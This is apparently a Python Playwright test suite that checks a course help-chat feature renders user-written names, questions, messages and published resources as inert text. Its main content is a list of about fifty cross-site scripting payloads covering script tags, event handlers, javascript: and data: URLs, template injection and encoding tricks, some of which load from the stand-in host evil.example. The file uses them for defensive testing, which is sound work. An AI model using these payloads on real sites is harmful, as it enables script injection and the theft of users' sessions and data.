"""Whatever people write, call themselves or name their units, it is text: nothing of it runs, loads or leads away.

The vectors are of the kinds that filter evasion lists collect: elements, handlers, schemes, encodings, broken markup,
templates. Each calls `owned()`. A page that believed them shows that they would be noticed.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any
from uuid import uuid4

import pytest
from playwright.sync_api import Page, Route, expect

from tests.browser.fixtures import LINE, MENU, STAYS, Browsers, call_id, in_menu, lines, say
from tests.support.devsite import eventually

VECTORS = (
    "<script>owned()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=owned()>",
    '<img src="x" onerror="&#111;wned()">',
    "<IMG SRC=javascript:owned()>",
    "<img src=x:x onerror\x0a=owned()>",
    "<svg onload=owned()>",
    "<svg><script>owned()</script></svg>",
    "<svg><animate onbegin=owned() attributeName=x dur=1s>",
    "<math><mi xlink:href=javascript:owned()>x</mi></math>",
    "<iframe srcdoc='<script>parent.owned()</script>'></iframe>",
    "<iframe src=javascript:parent.owned()></iframe>",
    "<object data=javascript:owned()></object>",
    "<embed src=javascript:owned()>",
    "<body onload=owned()>",
    "<input autofocus onfocus=owned()>",
    "<details open ontoggle=owned()>",
    "<video><source onerror=owned()></video>",
    "<audio src=x onerror=owned()>",
    "<marquee onstart=owned()>x</marquee>",
    "<style>@import'//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=javascript:owned()><button>x</button></form>",
    "<a href=javascript:owned()>x</a>",
    "javascript:owned()",
    "JaVaScRiPt:owned()//http://a.example",
    "data:text/html,<script>owned()</script>",
    "vbscript:owned() file:///etc/passwd ftp://evil.example",
    "http://a.example/\"onmouseover='owned()'x=",
    "https://a.example/</a><script>owned()</script>",
    "https://javascript:owned()@a.example/",
    "</textarea><script>owned()</script>",
    "</script><script>owned()</script>",
    "--><script>owned()</script><!--",
    "]]><script xmlns='http://www.w3.org/1999/xhtml'>owned()</script>",
    "'\"><script>owned()</script>",
    "';owned();//\\';owned();//",
    "${owned()} {{constructor.constructor('owned()')()}} #{owned()}",
    "<%= owned() %> <?php owned() ?>",
    "\\u003cscript\\u003eowned()\\u003c/script\\u003e",
    "&lt;script&gt;owned()&lt;/script&gt;",
    "%3Cscript%3Eowned()%3C/script%3E",
    "\uff1cscript\uff1eowned()\uff1c/script\uff1e",
    "<scr\u200bipt>owned()</scr\u200bipt><scr<script>ipt>owned()</script>",
    "<template shadowrootmode=open><script>owned()</script></template>",
    "<x-a is=chatxblock-room data-x='' onclick=owned() style=position:fixed;inset:0>x</x-a>",
)
PEOPLE = ("learner", "helper1", "staff")
ENDING = [vector for vector in VECTORS if "</script>" in vector]
"""What would end a script element in which it stands."""
NAME = "".join(VECTORS[:20])
QUESTION = "\n".join(VECTORS)[:1990]
PLACE = "javascript:owned()//http://a.example"
WATCH = """
window.ran = []; window.owned = () => window.ran.push(document.URL);
document.addEventListener("securitypolicyviolation", (event) => window.ran.push(event.violatedDirective));
"""
POISON = """
const fake = {name: NAME, title: NAME, prompt: NAME, url: PLACE, image_url: PLACE}, parse = JSON.parse;
JSON.parse = (text, reviver) => parse(text, (key, value) =>
  typeof value === "string" && key in fake ? fake[key] : reviver ? reviver(key, value) : value);
"""
"""For what stands in a page; the page itself has to come from the server, or Chromium would not let it connect."""


def poison(route: Route) -> None:
    """Answer what the server answers, with other names, titles and places."""
    if route.request.resource_type not in ("fetch", "xhr"):
        route.fallback()
        return
    answer = route.fetch()
    body = re.sub(r'"(name|title)": "[^"]*"', lambda found: f'"{found[1]}": {json.dumps(NAME)}', answer.text())
    body = re.sub(r'"(url|image_url)": "[^"]*"', rf'"\1": "{PLACE}"', body)
    route.fulfill(response=answer, body=body)


@pytest.fixture
def traps(browsers: Browsers) -> Iterator[list[str]]:
    """Everything that people's windows do and should not: dialogs, requests to elsewhere."""
    sprung: list[str] = []
    for student in PEOPLE:
        profile = browsers.profile(student)
        profile.add_init_script(WATCH + POISON.replace("NAME", json.dumps(NAME)).replace("PLACE", json.dumps(PLACE)))
        profile.on("dialog", lambda dialog: sprung.append(dialog.message))
        profile.on("request", lambda request: sprung.append(request.url) if "evil.example" in request.url else None)
        profile.route(re.compile(r"/handler/"), poison)
    yield sprung
    for student in PEOPLE:
        browsers.profile(student).unroute_all(behavior="ignoreErrors")
    assert sprung == []


def assert_inert(*pages: Page) -> None:
    for page in pages:
        assert page.evaluate("window.ran") == []
        schemes = page.locator(".chatxblock a, chatxblock-room a").evaluate_all("all => all.map((a) => a.protocol)")
        assert set(schemes) <= {"http:", "https:"}
        assert page.locator("chatxblock-room :is(iframe, object, embed, script, base, meta, svg script)").count() == 0
        assert "owned" not in page.evaluate("[...document.scripts].map((s) => s.src).join()")


def test_a_page_that_believes_is_noticed(browsers: Browsers) -> None:
    page = browsers.profile("learner").new_page()
    page.evaluate(WATCH)
    page.evaluate("text => { document.body.innerHTML = text }", "".join(VECTORS[2:4] + VECTORS[6:7]))
    page.wait_for_function("window.ran.length > 0")
    browsers.complaints.clear()  # the pictures that are not there


def test_nothing_that_people_write_or_are_called_runs(browsers: Browsers, traps: list[str]) -> None:
    helper, unit = browsers.unit("helper1"), browsers.unit("learner")
    unit.get_by_role("textbox").first.fill(QUESTION)
    with unit.context.expect_page() as opened:
        unit.get_by_role("button", name="Ask a helper").click()
    asker = browsers.room(opened.value)
    offer = helper.get_by_role("link", name=re.compile("^Help <script>"))
    expect(offer).to_be_visible()
    expect(helper.get_by_text("<script>owned()</script>").first).to_be_visible()
    assert_inert(helper, unit, asker)
    with helper.context.expect_page() as opened:
        offer.click()
    window = browsers.room(opened.value)
    for vector in VECTORS:
        say(window, vector)
    expect(asker.locator(LINE)).to_have_count(len(VECTORS))
    assert [line.split() for line in lines(asker)] == [vector.split() for vector in VECTORS]
    say(asker, QUESTION)
    expect(window.locator(LINE)).to_have_count(len(VECTORS) + 1)
    for page in (asker, window):
        page.mouse.move(300, 300)
        page.reload()
        expect(page.locator(LINE)).to_have_count(len(VECTORS) + 1)
    assert_inert(helper, unit, asker, window)
    for button in (*MENU, "It's solved"):
        (in_menu(asker, button) if button in MENU else asker.get_by_role("button", name=button)).click()
        expect(asker.get_by_role("dialog")).to_be_visible()
        assert_inert(asker)
        asker.get_by_role("dialog").get_by_role("button", name=STAYS).click()
    log = browsers.transcript("learner", asker.url)
    assert [line["body"] for line in log["lines"]][: len(VECTORS)] == [v.replace("\r", "\n") for v in VECTORS]
    assert log["call"]["question"] == QUESTION.strip()
    assert {page.url.partition("/handler/")[0] for page in (asker, window)} == {unit.url.partition("/scenario/")[0]}
    for student in ("helper1", "learner"):
        browsers.handler(student, "leave", {"call_id": call_id(asker.url)})
    assert eventually(lambda: browsers.transcript("learner", asker.url)["complete"])
    for page in (asker, window):
        page.reload()
        expect(page.locator(LINE)).to_have_count(len(VECTORS) + 1)
        assert_inert(page)


def test_nothing_runs_on_the_course_pages_of_asker_helper_and_staff(browsers: Browsers, traps: list[str]) -> None:
    question = "\n".join(ENDING)
    unit = browsers.unit("learner")
    unit.get_by_role("textbox").first.fill(question)
    with unit.context.expect_page() as opened:
        unit.get_by_role("button", name="Ask a helper").click()
    call = call_id(browsers.room(opened.value).url)
    for student in PEOPLE:
        page = browsers.unit(student)
        expect(page.locator("chatxblock-lobby")).to_be_visible()
        assert_inert(page)
    expect(browsers.unit("helper1").get_by_text(ENDING[0]).first).to_be_visible()
    browsers.handler("learner", "leave_question", {"call_id": call})
    staff = browsers.unit("staff")
    expect(staff.get_by_text(ENDING[0]).first).to_be_visible()
    assert_inert(staff)
    browsers.handler("staff", "answer_left", {"call_id": call, "answer": "\n".join(reversed(ENDING))})
    asker = browsers.unit("learner")
    expect(asker.get_by_text(ENDING[-1]).first).to_be_visible()
    assert_inert(asker)
    browsers.handler("learner", "left_read", {"call_id": call})
    dismissed = {"call_id": str(uuid4())}
    browsers.handler("learner", "ask", {"request_id": dismissed["call_id"], "question": question})
    browsers.handler("learner", "leave_question", dismissed)
    browsers.handler("staff", "dismiss_left", {**dismissed, "reason": question})
    asker = browsers.unit("learner")
    expect(asker.get_by_text("It will not be answered here.").first).to_be_visible()
    asker.locator("details summary").first.click()
    expect(asker.get_by_text(ENDING[-1]).last).to_be_visible()
    assert_inert(asker)
    browsers.handler("learner", "left_read", dismissed)


def test_nothing_runs_in_what_others_learned(browsers: Browsers, traps: list[str]) -> None:
    text = "\n\n".join(VECTORS)
    draft = browsers.handler("staff", "resource_draft", {})["resource"]
    words = {"title": "Quaternions and their norms", "answer": text[:1000], "body": text, "tags": []}
    saved = browsers.handler("staff", "resource_save", {**revision(draft), **words})["resource"]
    browsers.handler("staff", "resource_publish", revision(saved))
    unit = browsers.unit("learner")
    unit.get_by_role("textbox").first.fill("What are quaternions and norms?")
    expect(unit.get_by_text("Others learned:")).to_be_visible()
    unit.locator("chatxblock-found .line").first.click()
    expect(unit.locator("chatxblock-opened-resource .text")).to_be_visible()
    expect(unit.get_by_text("<script>owned()</script>").first).to_be_visible()
    assert_inert(unit)
    assert unit.locator("chatxblock-found :is(iframe, object, embed, script, base, meta, svg, form)").count() == 0
    expect(unit.get_by_role("link", name="Report a mistake")).to_have_count(0)
    unit.get_by_role("textbox").first.fill("")


def revision(resource: dict[str, Any]) -> dict[str, Any]:
    return {key: resource[key] for key in ("resource_id", "rev")}
